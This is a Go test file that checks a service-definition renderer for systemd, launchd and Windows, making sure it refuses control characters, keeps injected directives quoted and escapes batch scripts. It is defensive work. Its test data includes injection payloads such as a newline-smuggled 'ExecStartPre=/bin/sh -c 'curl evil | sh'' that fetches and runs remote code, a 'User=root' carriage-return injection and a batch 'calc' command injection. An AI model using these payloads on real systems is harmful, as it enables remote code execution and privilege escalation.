package service

import (
	"strings"
	"testing"
)

// TestRenderRefusesControlCharacters: for every manager, a control
// character in any rendered value is refused with the flag it came from,
// and nothing is rendered; a newline would otherwise add directives
// (ExecStartPre= runs a command as the service's user, before the graph).
func TestRenderRefusesControlCharacters(t *testing.T) {
	const inject = "\nExecStartPre=/bin/sh -c 'curl evil | sh'"
	base := goldenConfigs(t)
	type mut struct {
		name string
		set  func(*Config)
		want string
	}
	muts := []mut{
		{"run-as newline", func(c *Config) { c.RunAs = "schnitzel" + inject }, "--run-as: contains a newline (control character U+000A)"},
		{"env-file newline", func(c *Config) { c.EnvFile = c.Graph + ".env" + inject }, "--env-file: contains a newline (control character U+000A)"},
		{"graph newline", func(c *Config) { c.Graph += inject }, "--graph: contains a newline (control character U+000A)"},
		{"graph carriage return", func(c *Config) { c.Graph += "\rUser=root" }, "--graph: contains a carriage return (control character U+000D)"},
		{"binary tab", func(c *Config) { c.Binary += "\tx" }, "--binary: contains a tab (control character U+0009)"},
		{"extra arg newline", func(c *Config) { c.Args = []string{"--log-level", "debug" + inject} }, "argument 2 after --: contains a newline (control character U+000A)"},
		{"extra arg NUL", func(c *Config) { c.Args = []string{"a\x00b"} }, "argument 1 after --: contains a NUL byte (control character U+0000)"},
		{"extra arg escape", func(c *Config) { c.Args = []string{"\x1b[2J"} }, "argument 1 after --: contains a control character (U+001B)"},
		{"extra arg C1", func(c *Config) { c.Args = []string{"a\u0085b"} }, "argument 1 after --: contains a control character (U+0085)"},
		{"extra arg line separator", func(c *Config) { c.Args = []string{"a\u2028b"} }, "argument 1 after --: contains a line separator (U+2028)"},
		{"extra arg bad utf-8", func(c *Config) { c.Args = []string{"a\xffb"} }, "argument 1 after --: is not valid UTF-8"},
		{"name newline", func(c *Config) { c.Name = "cam" + inject }, "--name: contains a newline"},
		{"working dir newline", func(c *Config) { c.Paths.State += inject }, "the state directory (working directory): contains a newline"},
		{"log dir newline", func(c *Config) { c.Paths.Logs += inject }, "the log directory: contains a newline"},
		{"home newline", func(c *Config) { c.Home += inject }, "HOME: contains a newline"},
	}
	for name, cfg := range base {
		for _, m := range muts {
			t.Run(name+"/"+m.name, func(t *testing.T) {
				c := cfg
				c.Args = append([]string(nil), cfg.Args...)
				m.set(&c)
				def, err := Render(c)
				if err == nil {
					t.Fatalf("rendered:\n%s", def.Content)
				}
				if !strings.Contains(err.Error(), m.want) {
					t.Fatalf("err = %v\nwant %q", err, m.want)
				}
				if def.Content != "" {
					t.Errorf("a definition came back with the error")
				}
			})
		}
	}
	// Nothing else rejects these: the same values without the control
	// character render (so the check is what refused them above).
	for name, cfg := range base {
		c := cfg
		c.Args = append(c.Args, "--log-level", "debug ExecStartPre=/bin/true")
		if _, err := Render(c); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestSystemdInjectionStaysOneArgument: without a newline, directive-like
// text stays inside ExecStart= as a quoted argument.
func TestSystemdInjectionStaysOneArgument(t *testing.T) {
	c := goldenConfigs(t)["systemd_system"]
	c.Args = []string{"--x", "y; ExecStartPre=/bin/sh"}
	def, err := Render(c)
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(def.Content, "\n") {
		if strings.HasPrefix(l, "ExecStartPre") {
			t.Fatalf("injected line %q", l)
		}
	}
	if !strings.Contains(def.Content, `--x "y; ExecStartPre=/bin/sh"`) {
		t.Errorf("argument not quoted as one word:\n%s", def.Content)
	}
}

func TestRunAsAccountName(t *testing.T) {
	for _, tc := range []struct {
		m     Manager
		runAs string
		ok    bool
	}{
		{Systemd, "schnitzel", true}, {Systemd, "svc-cam_01", true}, {Systemd, "1001", true}, {Systemd, "machine$", true},
		{Systemd, "a b", false}, {Systemd, "-x", false}, {Systemd, "a/b", false}, {Systemd, "%n", false},
		{Launchd, "_schnitzel", true}, {Launchd, "a<b", false},
	} {
		cfgs := goldenConfigs(t)
		c := cfgs["systemd_system"]
		if tc.m == Launchd {
			c = cfgs["launchd_system"]
		}
		c.RunAs = tc.runAs
		_, err := Render(c)
		if (err == nil) != tc.ok {
			t.Errorf("%s --run-as %q: err = %v, want ok=%v", tc.m, tc.runAs, err, tc.ok)
		}
		if err != nil && !strings.Contains(err.Error(), "--run-as") {
			t.Errorf("%s --run-as %q: error does not name the flag: %v", tc.m, tc.runAs, err)
		}
	}
}

func TestRootWarning(t *testing.T) {
	cfgs := goldenConfigs(t)
	for _, tc := range []struct {
		name  string
		cfg   Config
		runAs string
		warn  string
	}{
		{"systemd root", cfgs["systemd_system"], "root", "--run-as root: the systemd service runs as root"},
		{"systemd uid 0", cfgs["systemd_system"], "0", "--run-as 0: the systemd service runs as root"},
		{"systemd default", cfgs["systemd_system"], "", ""},
		{"systemd account", cfgs["systemd_system"], "svc", ""},
		{"launchd root", cfgs["launchd_system"], "root", "runs as root"},
		{"launchd default is root", cfgs["launchd_system"], "", "the launchd daemon runs as root (no --run-as)"},
		{"launchd account", cfgs["launchd_system"], "_schnitzel", ""},
		{"systemd user scope", cfgs["systemd_user"], "", ""},
		{"windows", cfgs["windows_scm"], "", ""},
	} {
		c := tc.cfg
		c.RunAs = tc.runAs
		got := RootWarning(c)
		if tc.warn == "" && got != "" || tc.warn != "" && !strings.Contains(got, tc.warn) {
			t.Errorf("%s: warning %q, want %q", tc.name, got, tc.warn)
		}
	}
}

// TestWindowsScriptQuoting: the sc.exe script is a batch file; a quote
// would end the quoting (refused) and %VAR% would expand (doubled).
func TestWindowsScriptQuoting(t *testing.T) {
	c := goldenConfigs(t)["windows_scm"]
	c.Args = []string{"--log-level", `x" & calc & "`}
	if _, err := Render(c); err == nil || !strings.Contains(err.Error(), "argument 2 after --: contains a double quote") {
		t.Errorf("err = %v, want the quote refused", err)
	}
	c.Args = []string{"--prefix", "%COMSPEC%"}
	def, err := Render(c)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(def.Content, "%%COMSPEC%%") || strings.Contains(strings.ReplaceAll(def.Content, "%%", ""), "%") {
		t.Errorf("%% not doubled in the script:\n%s", def.Content)
	}
	// Task Scheduler's XML takes a quote as it is.
	task := goldenConfigs(t)["taskscheduler_system"]
	task.Args = []string{`a"b`}
	if _, err := Render(task); err != nil {
		t.Errorf("task: %v", err)
	}
}
